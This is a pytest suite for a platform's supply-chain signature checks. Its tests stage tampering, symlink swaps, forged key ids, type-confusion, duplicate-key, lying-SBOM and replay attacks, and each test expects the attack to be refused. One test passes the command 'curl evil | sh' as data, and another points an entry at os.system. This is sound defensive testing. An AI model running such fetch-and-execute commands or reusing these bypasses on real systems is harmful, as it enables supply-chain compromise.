"""Somebody wants code of theirs to run under another's good signature; each way is tried, and each ends before a build.

Where a guard is one of ours, the test shows first that without it the attack would have passed.
"""

import base64
import json
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path

import pytest

import hive
from hive.core.call import Refused
from hive.core.clock import SystemClock
from hive.core.errors import SpecError, SupplyError
from hive.engines import Migration, load_migrations
from hive.execution.environment import Environments
from hive.execution.prepare import Preparer
from hive.execution.source import find_command, find_source
from hive.execution.source_copy import stage, staged_path
from hive.security.supply_chain.book import PackageBook
from hive.security.supply_chain.drivers.cyclonedx import CycloneDxBill
from hive.security.supply_chain.envelope import pre_authentication, read_bundle, write_bundle
from hive.security.supply_chain.locks import pinned_parts
from hive.security.supply_chain.packages import SignedPackage, check_package
from hive.security.supply_chain.statement import PAYLOAD_TYPE, SignedKind
from hive_a2a.crypto import verify_note
from tests.supply_rig import AT, SignedSource

pytestmark = pytest.mark.anyio


@pytest.fixture
def migrations() -> Sequence[Migration]:
    return load_migrations("hive.security")


@pytest.fixture
def source(tmp_path) -> SignedSource:
    return SignedSource(tmp_path)


async def refusal_of(source: SignedSource, bundle: bytes, sbom: bytes | None = None) -> str:
    said = await check_package(source.verifier(), source.package(), bundle, sbom)
    return said.reason if isinstance(said, Refused) else ""


@pytest.mark.parametrize("change", ["edited", "added", "removed", "made executable"])
async def test_a_file_changes_after_the_signature(source, change):
    (source.folder / "more.py").write_text("X = 1\n")
    source.sign()
    await source.admit()
    match change:
        case "edited":
            (source.folder / "more.py").write_text("X = 2\n")
        case "added":
            (source.folder / "sitecustomize.py").write_text("print('in')\n")
        case "removed":
            (source.folder / "more.py").unlink()
        case _:
            (source.folder / "more.py").chmod(0o755)
    with pytest.raises(SupplyError, match="something else"):
        await source.admit()
    assert (await source.admit(demanded=False)).problem


async def test_the_folder_is_exchanged_between_the_check_and_the_build(source, tmp_path):
    source.sign()
    found = source.find()
    assert (await source.admit()).signed is not None
    (source.folder / "agent.py").unlink()
    (tmp_path / "evil.py").write_text("def agent(text):\n    return 'owned'\n")
    (source.folder / "agent.py").symlink_to(tmp_path / "evil.py")
    # The folder that was looked at is another one now, and whoever built from it would build that.
    assert "owned" in (source.folder / "agent.py").read_text()
    copy = staged_path(source.state, found.spec.digest)
    assert "owned" not in (copy / "agent.py").read_text()
    with pytest.raises(SpecError):  # a link out of the folder is no file of the source
        stage(source.find().visible, source.state)


async def test_the_folder_is_exchanged_between_the_look_and_the_copy(source):
    source.sign()
    found = source.find()
    (source.folder / "agent.py").write_text("def agent(text):\n    return 'owned'\n")
    with pytest.raises(SpecError, match="changed while it was read"):
        stage(found.visible, source.state)


async def test_the_copy_itself_is_exchanged_after_the_check(source, tmp_path):
    source.sign()
    found = source.find()
    await source.admit()
    copied = staged_path(source.state, found.spec.digest) / "agent.py"
    copied.chmod(0o644)
    copied.write_text("def agent(text):\n    return 'owned'\n")
    nothing: Environments = None  # type: ignore[assignment]
    preparer = Preparer(state=source.state, home=tmp_path, environments=nothing)
    with pytest.raises(SpecError, match="not as it was confirmed"):
        await preparer.prepare(found.spec, "operator", on_line=print)  # type: ignore[arg-type]


async def test_another_packages_signature_is_laid_beside_this_one(source, tmp_path):
    other = SignedSource(tmp_path / "there")
    (other.folder / "agent.py").write_text("def agent(text):\n    return 'other'\n")
    (source.folder / "mailer.hive-bundle.json").write_bytes(other.sign(source.release))
    with pytest.raises(SupplyError, match="something else"):
        await source.admit()


async def test_the_same_files_are_deployed_under_another_name_or_entry(source):
    bundle = source.sign()
    (source.folder / "pay-out.hive-bundle.json").write_bytes(bundle)
    with pytest.raises(SupplyError, match="signed as the agent mailer"):
        await source.admit(name="pay-out")
    package = source.package()
    package.spec["attribute"] = "os.system"
    said = await check_package(source.verifier(), package, bundle)
    assert isinstance(said, Refused)
    assert "attribute" in said.reason


async def test_a_stranger_signs_and_says_that_it_was_the_trusted_key(source):
    bundle = source.sign(source.stranger)
    assert "No key that is trusted" in await refusal_of(source, bundle)
    lying = bundle.replace(source.stranger.id.encode(), source.release.id.encode())
    assert lying != bundle
    assert "No key that is trusted" in await refusal_of(source, lying)


async def test_a_signature_over_another_kind_of_document_is_shown(source):
    signed = read_bundle(source.sign())
    # The trusted key signed these very bytes, but as a document of another kind.
    other = source.release.sign(pre_authentication("text/plain", signed.payload))
    as_text = write_bundle("text/plain", signed.payload, source.release.id, other)
    assert "another kind" in await refusal_of(source, as_text)
    relabelled = write_bundle(PAYLOAD_TYPE, signed.payload, source.release.id, other)
    assert "No key" in await refusal_of(source, relabelled)
    # Without the type in what is signed it would have passed: the bare payload carries a good signature.
    bare = source.release.sign(signed.payload)
    assert verify_note(source.release.der[12:], bare, signed.payload)
    unbound = write_bundle(PAYLOAD_TYPE, signed.payload, source.release.id, bare)
    assert "No key" in await refusal_of(source, unbound)


async def test_a_statement_says_a_key_twice(source):
    payload = read_bundle(source.sign()).payload.decode()
    digest = source.package().digest
    hidden = payload.replace(f'"sha256":"{digest}"', f'"sha256":"{"0" * 64}","sha256":"{digest}"')
    # A usual reader takes the last of the two and is content.
    assert json.loads(hidden)["subject"][0]["digest"]["sha256"] == digest
    signature = source.release.sign(pre_authentication(PAYLOAD_TYPE, hidden.encode()))
    bundle = write_bundle(PAYLOAD_TYPE, hidden.encode(), source.release.id, signature)
    assert "twice" in await refusal_of(source, bundle)


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"[]",
        b"{",
        b'{"a":NaN}',
        b"[" * 5000,
        b'{"_type":"https://in-toto.io/Statement/v1"}',
        b"\xff",
    ],
)
async def test_rubbish_with_a_good_signature_is_a_refusal_and_no_crash(source, payload):
    signature = source.release.sign(pre_authentication(PAYLOAD_TYPE, payload))
    bundle = write_bundle(PAYLOAD_TYPE, payload, source.release.id, signature)
    assert await refusal_of(source, bundle)
    assert await refusal_of(source, payload)


async def test_a_statement_speaks_of_several_packages(source):
    statement = json.loads(read_bundle(source.sign()).payload)
    statement["subject"].insert(0, {"name": "x", "digest": {"sha256": "0" * 64}})
    payload = json.dumps(statement).encode()
    signature = source.release.sign(pre_authentication(PAYLOAD_TYPE, payload))
    bundle = write_bundle(PAYLOAD_TYPE, payload, source.release.id, signature)
    assert "one subject" in await refusal_of(source, bundle)


async def test_the_bundle_is_a_link_to_another_file(source, tmp_path):
    bundle = source.sign()
    (tmp_path / "elsewhere.json").write_bytes(bundle)
    beside = source.folder / "mailer.hive-bundle.json"
    beside.unlink()
    beside.symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(SpecError, match="links"):
        await source.admit()


async def test_the_bill_of_materials_lies_about_the_lock(source):
    (source.folder / "requirements.txt").write_text("anyio==4.9.0\nmsgspec==0.19.0\n")
    parts = pinned_parts(source.package().locks)
    honest = CycloneDxBill().write(name="mailer", version="0.0.0", parts=parts, made_at=AT)
    bundle = source.sign(sbom=honest)
    assert isinstance(
        await check_package(source.verifier(), source.package(), bundle, honest), SignedPackage
    )
    left_out = CycloneDxBill().write(name="mailer", version="0.0.0", parts=parts[:1], made_at=AT)
    assert "bill of materials" in await refusal_of(source, bundle, left_out)  # exchanged
    for lie in (left_out, honest.replace(b"anyio@4.9.0", b"anyio@4.9.1")):
        with pytest.raises(SupplyError, match="lock pins"):  # and signed by its own author
            source.sign(sbom=lie)


async def test_a_signer_who_skips_our_tools_signs_a_lying_bill(source):
    from hashlib import sha256

    (source.folder / "requirements.txt").write_text("anyio==4.9.0\n")
    lie = CycloneDxBill().write(name="mailer", version="0.0.0", parts=[], made_at=AT)
    statement = json.loads(read_bundle(source.sign()).payload)
    statement["predicate"]["sbom"] = sha256(lie).hexdigest()
    payload = json.dumps(statement).encode()
    signature = source.release.sign(pre_authentication(PAYLOAD_TYPE, payload))
    bundle = write_bundle(PAYLOAD_TYPE, payload, source.release.id, signature)
    assert "does not name anyio" in await refusal_of(source, bundle, lie)


async def test_base64_that_two_readers_read_differently_is_refused(source):
    document = json.loads(source.sign())
    envelope = document["dsseEnvelope"]
    envelope["payload"] = envelope["payload"][:8] + "\n" + envelope["payload"][8:]
    assert base64.b64decode(envelope["payload"])  # a lenient reader skips what is no base64
    assert "base64" in await refusal_of(source, json.dumps(document).encode())


async def test_an_older_version_with_its_own_good_signature_comes_back(source, database):
    book = PackageBook(database, clock=SystemClock())
    toml = source.folder / "hive-agent.toml"
    toml.write_text('name = "mailer"\nversion = "1.9.0"\nentry = "agent.py:agent"\n')
    old = source.sign()
    await source.provenance(book=book).note(await source.admit(book=book))
    toml.write_text('name = "mailer"\nversion = "1.10.0"\nentry = "agent.py:agent"\n')
    source.sign(issued=AT + timedelta(days=1))
    await source.provenance(book=book).note(await source.admit(book=book))
    toml.write_text('name = "mailer"\nversion = "1.9.0"\nentry = "agent.py:agent"\n')
    (source.folder / "mailer.hive-bundle.json").write_bytes(old)
    assert (await source.admit()).signed is not None, "its signature alone is good"
    with pytest.raises(SupplyError, match=r"1\.10\.0 has run here"):
        await source.admit(book=book)


async def test_an_older_signature_of_the_same_version_comes_back(source, database):
    book = PackageBook(database, clock=SystemClock())
    old = source.sign()
    (source.folder / "agent.py").write_text("def agent(text):\n    return 'mended'\n")
    source.sign(issued=AT + timedelta(hours=1))
    await source.provenance(book=book).note(await source.admit(book=book))
    (source.folder / "agent.py").write_text("def agent(text):\n    return text\n")
    (source.folder / "mailer.hive-bundle.json").write_bytes(old)
    with pytest.raises(SupplyError, match="signed before"):
        await source.admit(book=book)
    assert await book.forget(SignedKind.AGENT, "mailer")
    assert (await source.admit(book=book)).signed is not None


@pytest.mark.parametrize("way", ["a command", "another function"])
async def test_a_folder_of_hive_itself_lends_its_name_to_something_else(source, way):
    home = Path(hive.__file__).parent
    planner = home / "cli" / "demo_agents" / "planner"
    found = (
        find_command(("/bin/sh", "-c", "curl evil | sh"), cwd=planner, home=source.top, name="x")
        if way == "a command"
        else find_source(f"{home}/engines/children.py:os.system", cwd=home, home=source.top)
    )
    stage(found.visible, source.state)
    # Its files are those of Hive, one by one; what would be run is not.
    with pytest.raises(SupplyError, match="not signed"):
        await source.provenance().admit(found.spec)
    own = find_source(str(planner), cwd=home, home=source.top)
    stage(own.visible, source.state)
    assert (await source.provenance().admit(own.spec)).text == "a part of Hive"


async def test_a_key_that_was_taken_away_stays_under_a_second_name(source):
    source.sign()
    source.trust.add("also", source.release.der)
    source.trust.remove("release")
    with pytest.raises(SupplyError, match="No key that is trusted"):
        await source.admit()


async def test_a_worthless_signature_does_not_drive_out_the_good_one(source):
    good = source.sign()
    await source.admit()
    beside = source.folder / "mailer.hive-bundle.json"
    beside.write_bytes(b"rubbish")
    await source.admit()  # These very bytes were vouched for before.
    found = source.find()
    assert (await source.provenance().admit(found.spec)).signed is not None
    kept = source.state / "bundles" / f"{found.spec.digest}.mailer.hive-bundle.json"
    assert kept.read_bytes() == good
